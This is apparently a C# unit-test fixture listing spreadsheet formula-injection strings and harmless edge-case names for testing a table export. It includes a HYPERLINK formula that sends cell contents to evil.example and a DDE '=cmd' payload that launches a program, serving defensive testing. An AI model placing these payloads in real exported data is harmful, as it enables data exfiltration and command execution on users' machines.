namespace PrepPlatform.Tests.Unit.Tables;

/// <summary>What strangers write where a name is asked for.</summary>
internal static class HostileTexts
{
    /// <summary>Each of them a spreadsheet program, or one of them, takes for a formula.</summary>
    public static readonly string[] Formulas =
    [
        "=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+49 151 12345", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =cmd|' /C calc'!A0", "\u00a0=1", "＝1+1", "＠SUM(A1)", "=", "-",
    ];

    public static readonly string[] Harmless =
    [
        "Asha Singh", "O'Brien, \"Red\"", "a=b", "3 - 2", "name@example.test", "<script>alert(1)</script>", "שלום עולם", "مرحبا", "अनुष्का", "👩🏽‍🎓 Zoë", "two\r\nlines", "a;b", "tab\tin it", " leading and trailing ",
        "]]>", "&amp; &#61;", "\u202egnp.exe",
    ];
}
